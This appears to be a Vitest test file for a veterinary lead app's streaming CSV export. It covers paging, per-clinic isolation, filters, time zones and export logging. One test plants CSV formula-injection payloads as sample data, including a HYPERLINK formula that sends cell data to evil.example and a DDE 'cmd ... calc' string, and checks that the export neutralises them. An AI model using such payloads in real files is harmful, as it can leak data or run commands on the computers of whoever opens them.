import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { DEMO_CLINICS_FILE, seedDemoClinics } from '../clinics/seedDemoClinics'
import type { Db } from '../db/db'
import { EXPORT_PAGE_SIZE } from '../routes/workspaceExportRoutes'
import { storeSubmission } from '../routes/storeSubmission'
import { parseCsv } from '../testing/parseCsv'
import { validPet } from '../testing/payloads'
import { testClock } from '../testing/testClock'
import { openTestDb } from '../testing/testDb'
import { makeTestApp, TEST_ORIGIN } from '../testing/testApp'
import { seedDemoAccounts } from './seedDemoAccounts'
import { staffSession } from '../testing/demoWorkspace'

/**
 * The CSV export, GET workspace/leads.csv. The database is wrapped to see every export statement
 * (the one that reads a page and counts it into the export's log row), so the tests can say how many rows
 * each read held and how far the reading had gone when the first bytes reached the client.
 */
const IDS = (JSON.parse(readFileSync(DEMO_CLINICS_FILE, 'utf8')) as Array<{ id: string }>).map((c) => c.id)
const W = '/api/workspace'
const NOW = new Date('2026-03-02T10:00:00Z')
let t: Awaited<ReturnType<typeof openTestDb>>
let a: ReturnType<typeof makeTestApp>
/** Rows returned by each export page statement, in order. */
let pages: number[]

beforeAll(async () => {
  t = await openTestDb()
})
afterAll(async () => {
  await t.close()
})

function watched(db: Db): Db {
  return {
    ...db,
    kind: db.kind,
    async query<T>(sql: string, params?: unknown[]) {
      const rows = await db.query<T>(sql, params)
      if (sql.includes('INSERT INTO export_log')) pages.push(rows.length)
      return rows
    },
  }
}

beforeEach(async () => {
  await t.reset()
  pages = []
  a = makeTestApp(watched(t.db), t.dataDir, { clock: testClock(NOW) })
  await seedDemoClinics(t.db, NOW)
  await seedDemoAccounts(t.db, IDS, NOW)
})

async function store(clinicId: string, data: Record<string, unknown>, at = NOW) {
  return t.db.transaction((tx) =>
    storeSubmission(tx, 'health', clinicId, { ...validPet(), ...data }, at, { graceMs: 600_000, clinics: a.deps.clinics }).then(
      (s) => s.id,
    ),
  )
}

/** `n` leads of `clinic`, one a minute back from NOW, in one statement (as the inbox bench seeds them). */
async function seed(clinic: string, n: number) {
  await t.db.query(
    `INSERT INTO submissions (id, kind, clinic_id, data, created_at, routed_clinic_id, route_rule, urgency)
    SELECT gen_random_uuid(), 'health', $2, jsonb_build_object('owner_name', 'Owner ' || g, 'pet_name', 'Pet ' || g, 'email', 'o' || g || '@example.com', 'phone_number', '555' || lpad(g::text, 7, '0')),
      $1::timestamptz - (g || ' minutes')::interval, $2, 'clinic form', 'routine'
    FROM generate_series(1, ${n}) g`,
    [NOW, clinic],
  )
}

function request(path: string, headers: Record<string, string>) {
  return a.app.request(path, { headers }, { incoming: { socket: { remoteAddress: '127.0.0.1', remoteFamily: 'IPv4' } } })
}

async function exportCsv(cookie: string, query: string) {
  const res = await request(`${W}/leads.csv?${query}`, { cookie })
  const bytes = new Uint8Array(await res.arrayBuffer())
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  return { res, bytes, text, rows: res.status === 200 ? parseCsv(text.replace(/^\uFEFF/, '')) : [] }
}

describe('CSV export', () => {
  it('streams 5,000 leads in pages of 500: the first rows leave before the second page is read, and nothing is read ahead', async () => {
    await seed('willow', 5_000)
    const cookie = (await staffSession(a, 'front@willow.test')).cookie
    const started = performance.now()
    const res = await request(`${W}/leads.csv?from=2026-02-01&to=2026-03-02`, { cookie })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="petlead-leads-willow-2026-02-01-to-2026-03-02.csv"')
    expect(res.headers.get('cache-control')).toBe('no-store')
    // The answer (status, headers and a body to read) exists before a single lead was read.
    expect(pages).toEqual([])
    const reader = res.body!.getReader()
    const chunks: Uint8Array[] = []
    const first = await reader.read()
    chunks.push(first.value!)
    expect([...first.value!.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const second = await reader.read()
    chunks.push(second.value!)
    const firstRowsMs = performance.now() - started
    expect(pages).toEqual([EXPORT_PAGE_SIZE])
    // A client that stops reading stops the reading: a pause reads no further page.
    for (let i = 0; i < 20; i++) await new Promise((r) => setImmediate(r))
    await new Promise((r) => setTimeout(r, 50))
    expect(pages).toEqual([EXPORT_PAGE_SIZE])
    for (let c = await reader.read(); !c.done; c = await reader.read()) chunks.push(c.value)
    const totalMs = performance.now() - started
    // 10 full pages, then the empty one that says the end: no statement ever held more than a page.
    expect(pages).toEqual([...Array(10).fill(EXPORT_PAGE_SIZE), 0])
    const total = chunks.reduce((n, c) => n + c.length, 0)
    const largest = Math.max(...chunks.map((c) => c.length))
    expect(largest).toBeLessThan(total / 8)
    const rows = parseCsv(new TextDecoder().decode(Buffer.concat(chunks)))
    expect(rows).toHaveLength(5_001)
    expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(5_000)
    // Newest first, as in the inbox.
    expect(rows[1]![10]).toBe('Owner 1')
    expect(rows[5_000]![10]).toBe('Owner 5000')
    console.log(
      `CSV of 5,000 leads: ${total} bytes in ${chunks.length} chunks (largest ${largest}); first rows after ${firstRowsMs.toFixed(0)} ms, all after ${totalMs.toFixed(0)} ms; ${pages.length} page reads`,
    )
  }, 60_000)

  it('writes the BOM and the header, RFC 4180 quoting, and neutralises cells a spreadsheet would run as formulas', async () => {
    const id = await store('willow', {
      owner_name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      pet_name: '+SUM(1,2)',
      email: '@cmd',
      phone_number: '-2+3',
      additional_info: 'x',
      zip_code: '94566',
      // A campaign name is whatever the host page's link said: neutralised like the owner's words.
      attribution: { utm_campaign: '=cmd|" /C calc"!A0' },
    })
    const id2 = await store(
      'willow',
      { owner_name: 'Smith, "Jo"\nJr', pet_name: '\tTab', email: 'plain@example.com', phone_number: '\r5551234567' },
      new Date(NOW.getTime() - 60_000),
    )
    const { res, bytes, text, rows } = await exportCsv((await staffSession(a, 'owner@willow.test')).cookie, 'from=2026-03-01&to=2026-03-02')
    expect(res.status).toBe(200)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(text.slice(1).split('\r\n')[0]).toBe(
      'Lead ID,Received (UTC),Kind,Status,Closed reason,Urgency,Clinic,Pet,Pet type,Breeds,Owner,E-mail,Phone,ZIP code,First contacted (UTC),Speed to lead (min),Workspace link,Complaint,Service,Notes,' +
        // Where the lead came from, appended so the columns before keep their places.
        'Widget,Source,utm_source,utm_medium,utm_campaign,utm_term,utm_content,gclid,gbraid,wbraid,fbclid,msclkid,Referrer',
    )
    expect(text.endsWith('\r\n')).toBe(true)
    const byId = new Map(rows.slice(1).map((r) => [r[0], r]))
    const header = rows[0]!
    const evil = byId.get(id)!
    expect(evil[10]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`)
    expect(evil[7]).toBe("'+SUM(1,2)")
    expect(evil[11]).toBe("'@cmd")
    expect(evil[12]).toBe("'-2+3")
    expect(evil.slice(1, 7)).toEqual(['2026-03-02 10:00', 'health', 'new', '', 'routine', 'willow'])
    expect(evil[13]).toBe('94566')
    expect(evil[16]).toBe(`${TEST_ORIGIN}/workspace/leads/${id}`)
    expect(evil[header.indexOf('utm_campaign')]).toBe(`'=cmd|" /C calc"!A0`)
    // The raw line: quotes doubled inside a quoted field.
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`)
    const other = byId.get(id2)!
    expect(other[10]).toBe('Smith, "Jo"\nJr')
    expect(other[7]).toBe("'\tTab")
    expect(other[12]).toBe("'\r5551234567")
    // No cell of the file starts a formula any more.
    for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it("never holds another clinic's leads; the network exports every clinic, and only it the queue", async () => {
    await seed('willow', 40)
    await seed('pleasanton', 30)
    const willow = await exportCsv((await staffSession(a, 'front@willow.test')).cookie, 'from=2026-02-01&to=2026-03-02')
    expect(willow.rows).toHaveLength(41)
    expect(new Set(willow.rows.slice(1).map((r) => r[6]))).toEqual(new Set(['willow']))
    const pleasanton = await exportCsv((await staffSession(a, 'owner@pleasanton.test')).cookie, 'from=2026-02-01&to=2026-03-02')
    expect(pleasanton.rows).toHaveLength(31)
    expect(new Set(pleasanton.rows.slice(1).map((r) => r[6]))).toEqual(new Set(['pleasanton']))
    const willowIds = new Set(willow.rows.slice(1).map((r) => r[0]))
    expect(pleasanton.rows.slice(1).filter((r) => willowIds.has(r[0]!))).toEqual([])
    // A clinic without leads gets a header and nothing else.
    expect((await exportCsv((await staffSession(a, 'owner@acacia.test')).cookie, 'from=2026-02-01&to=2026-03-02')).rows).toHaveLength(1)
    const network = await exportCsv((await staffSession(a, 'demo@petlead.test')).cookie, 'from=2026-02-01&to=2026-03-02')
    expect(network.res.headers.get('content-disposition')).toContain('petlead-leads-network-')
    expect(network.rows).toHaveLength(71)
    expect(
      (
        await request(`${W}/leads.csv?from=2026-02-01&to=2026-03-02&queue=1`, {
          cookie: (await staffSession(a, 'front@willow.test')).cookie,
        })
      ).status,
    ).toBe(403)
    // Each export is one log row in its own clinic's name, counting only the rows it wrote.
    const logs = await t.db.query<{ clinic_id: string | null; row_count: number }>(
      'SELECT clinic_id, row_count FROM export_log ORDER BY at, row_count',
    )
    expect(logs.map((l) => [l.clinic_id, Number(l.row_count)]).sort()).toEqual(
      [
        ['acacia', 0],
        ['pleasanton', 30],
        ['willow', 40],
        [null, 70],
      ].sort(),
    )
  })

  it('applies the inbox filters and the date range, days counted in the given time zone', async () => {
    const cookie = (await staffSession(a, 'front@willow.test')).cookie
    const day = (iso: string) => new Date(iso)
    const ids = {
      old: await store('willow', { owner_name: 'Old Owner' }, day('2026-02-10T18:00:00Z')),
      // 03:00 UTC on 2 March is still 1 March in California.
      lateEvening: await store('willow', { owner_name: 'Evening Owner' }, day('2026-03-02T03:00:00Z')),
      ann: await store('willow', { owner_name: 'Ann Searchable', phone_number: '9255550100' }, day('2026-03-01T17:00:00Z')),
      urgent: await store(
        'willow',
        { owner_name: 'Urgent Owner', additional_info: 'She ate chocolate and is having a seizure' },
        day('2026-03-01T16:00:00Z'),
      ),
    }
    expect((await a.patch(`${W}/leads/${ids.ann}`, { status: 'contacted' }, { cookie, origin: TEST_ORIGIN })).status).toBe(200)
    const owners = async (q: string) =>
      (await exportCsv(cookie, q)).rows
        .slice(1)
        .map((r) => r[10])
        .sort()
    expect(await owners('from=2026-03-01&to=2026-03-02')).toEqual(['Ann Searchable', 'Evening Owner', 'Urgent Owner'])
    expect(await owners('from=2026-02-01&to=2026-02-28')).toEqual(['Old Owner'])
    expect(await owners('from=2026-02-01&to=2026-03-02')).toHaveLength(4)
    expect(await owners('from=2026-03-02&to=2026-03-02')).toEqual(['Evening Owner'])
    expect(await owners('from=2026-03-02&to=2026-03-02&tz=America/Los_Angeles')).toEqual([])
    expect(await owners('from=2026-03-01&to=2026-03-01&tz=America/Los_Angeles')).toEqual([
      'Ann Searchable',
      'Evening Owner',
      'Urgent Owner',
    ])
    expect(await owners('from=2026-02-01&to=2026-03-02&status=contacted')).toEqual(['Ann Searchable'])
    expect(await owners('from=2026-02-01&to=2026-03-02&status=new&urgency=emergency')).toEqual(['Urgent Owner'])
    expect(await owners('from=2026-02-01&to=2026-03-02&q=searchable')).toEqual(['Ann Searchable'])
    expect(await owners('from=2026-02-01&to=2026-03-02&q=925-555-0100')).toEqual(['Ann Searchable'])
    expect(await owners('from=2026-02-01&to=2026-03-02&kind=dental')).toEqual([])
    // The same filters give the same leads as the inbox.
    // What the inbox shows: its pinned open emergencies and its list.
    const shown = (await a.get(`${W}/leads?status=new`, { cookie })).json.content
    const inbox = [...shown.pinned, ...shown.items].map((i: { owner: { name: string } }) => i.owner.name).sort()
    expect(await owners('from=2026-02-01&to=2026-03-02&status=new')).toEqual(inbox)
  })

  it('gives a front desk the complaint, the service and the notes, and times on the clock of the zone asked for', async () => {
    const id = await store('willow', { owner_name: 'Desk', additional_info: 'Limping on the left hind leg' })
    const cookie = (await staffSession(a, 'front@willow.test')).cookie
    // The test clock stands still, so two notes would share a time: one note keeps the order certain.
    expect((await a.patch(`${W}/leads/${id}`, { note: 'Called, no answer' }, { cookie, origin: TEST_ORIGIN })).status).toBe(200)
    const { rows } = await exportCsv(cookie, 'from=2026-03-01&to=2026-03-02&tz=America/Los_Angeles')
    expect(rows[0]!.slice(17, 20)).toEqual(['Complaint', 'Service', 'Notes'])
    expect(rows[0]![1]).toBe('Received (America/Los_Angeles)')
    const row = rows.find((r) => r[0] === id)!
    // 10:00 UTC on 2 March is 02:00 in California (PST, UTC-8): a spreadsheet reads it as that local time.
    expect(row[1]).toBe('2026-03-02 02:00')
    expect(row.slice(17, 20)).toEqual(['Limping on the left hind leg', '', 'Called, no answer'])
  })

  it("records an export of N leads as exactly one log row (who, when, days, filters, zone, rows) and no line in any lead's timeline", async () => {
    await seed('willow', 1_200)
    const inRange = await store('willow', { owner_name: 'In Range' })
    const outside = await store('willow', { owner_name: 'Outside' }, new Date('2026-01-05T12:00:00Z'))
    await seed('pleasanton', 3)
    const cookie = (await staffSession(a, 'front@willow.test')).cookie
    const before = await t.db.query<{ type: string }>('SELECT type FROM lead_events')
    const { rows } = await exportCsv(cookie, 'from=2026-02-01&to=2026-03-02&tz=America/Los_Angeles&status=new')
    expect(rows).toHaveLength(1_202)
    // Three pages read (500, 500, 201), one log row.
    expect(pages).toEqual([EXPORT_PAGE_SIZE, EXPORT_PAGE_SIZE, 201])
    const logs = await t.db.query<Record<string, unknown>>(
      'SELECT x.*, x.from_day::text AS f, x.to_day::text AS t, u.email FROM export_log x JOIN users u ON u.id = x.user_id',
    )
    expect(logs).toHaveLength(1)
    expect(logs[0]).toMatchObject({
      clinic_id: 'willow',
      email: 'front@willow.test',
      f: '2026-02-01',
      t: '2026-03-02',
      tz: 'America/Los_Angeles',
      file_name: 'petlead-leads-willow-2026-02-01-to-2026-03-02.csv',
    })
    expect(Number(logs[0]!.row_count)).toBe(1_201)
    expect(new Date(logs[0]!.at as string).toISOString()).toBe(NOW.toISOString())
    expect(typeof logs[0]!.filters === 'string' ? JSON.parse(logs[0]!.filters) : logs[0]!.filters).toEqual({ status: 'new' })
    // Not one timeline line was written, on any lead.
    expect(await t.db.query<{ type: string }>('SELECT type FROM lead_events')).toEqual(before)
    expect(Number((await t.db.query<{ n: string }>("SELECT count(*) AS n FROM lead_events WHERE type = 'exported'"))[0]!.n)).toBe(0)
    for (const id of [inRange, outside]) {
      expect((await a.get(`${W}/leads/${id}`, { cookie })).json.content.timeline.map((e: { type: string }) => e.type)).toEqual(['received'])
    }
  })

  it("lists the clinic's recent exports to its owners, never another clinic's", async () => {
    await seed('willow', 3)
    await seed('pleasanton', 2)
    await exportCsv((await staffSession(a, 'front@willow.test')).cookie, 'from=2026-03-01&to=2026-03-02&kind=health')
    await exportCsv((await staffSession(a, 'owner@pleasanton.test')).cookie, 'from=2026-03-01&to=2026-03-02')
    const willowOwner = (await staffSession(a, 'owner@willow.test')).cookie
    const list = await a.get(`${W}/exports`, { cookie: willowOwner })
    expect(list.status).toBe(200)
    expect(list.json.content.items).toEqual([
      {
        id: expect.any(String),
        at: NOW.toISOString(),
        actor: 'front@willow.test',
        from: '2026-03-01',
        to: '2026-03-02',
        tz: 'UTC',
        filters: { kind: 'health' },
        file_name: 'petlead-leads-willow-2026-03-01-to-2026-03-02.csv',
        rows: 3,
      },
    ])
    const pleasanton = (await a.get(`${W}/exports`, { cookie: (await staffSession(a, 'owner@pleasanton.test')).cookie })).json.content.items
    expect(pleasanton.map((i: { rows: number; file_name: string }) => [i.rows, i.file_name])).toEqual([
      [2, 'petlead-leads-pleasanton-2026-03-01-to-2026-03-02.csv'],
    ])
    // A clinic with no export sees an empty list; the front desk is not shown the log; the network sees both.
    expect((await a.get(`${W}/exports`, { cookie: (await staffSession(a, 'owner@acacia.test')).cookie })).json.content.items).toEqual([])
    expect((await a.get(`${W}/exports`, { cookie: (await staffSession(a, 'front@willow.test')).cookie })).status).toBe(403)
    expect((await a.get(`${W}/exports`, { cookie: (await staffSession(a, 'demo@petlead.test')).cookie })).json.content.items).toHaveLength(
      2,
    )
  })

  it('refuses bad ranges, unknown zones, cross-site requests and callers without a session', async () => {
    const cookie = (await staffSession(a, 'front@willow.test')).cookie
    const status = async (q: string, h: Record<string, string> = {}) => (await request(`${W}/leads.csv?${q}`, { cookie, ...h })).status
    expect(await status('to=2026-03-02')).toBe(400)
    expect(await status('from=2026-03-02&to=2026-03-01')).toBe(400)
    expect(await status('from=2026-02-30&to=2026-03-01')).toBe(400)
    expect(await status('from=2026-03-01&to=2026-03-02&tz=Mars/Olympus')).toBe(400)
    expect(await status('from=2026-03-01&to=2026-03-02', { 'sec-fetch-site': 'cross-site' })).toBe(403)
    expect(await status('from=2026-03-01&to=2026-03-02', { 'sec-fetch-site': 'same-origin' })).toBe(200)
    expect((await request(`${W}/leads.csv?from=2026-03-01&to=2026-03-02`, {})).status).toBe(401)
    // Refused requests read nothing, and the accepted one, whose body nobody read, read nothing either.
    expect(pages).toEqual([])
  })
})
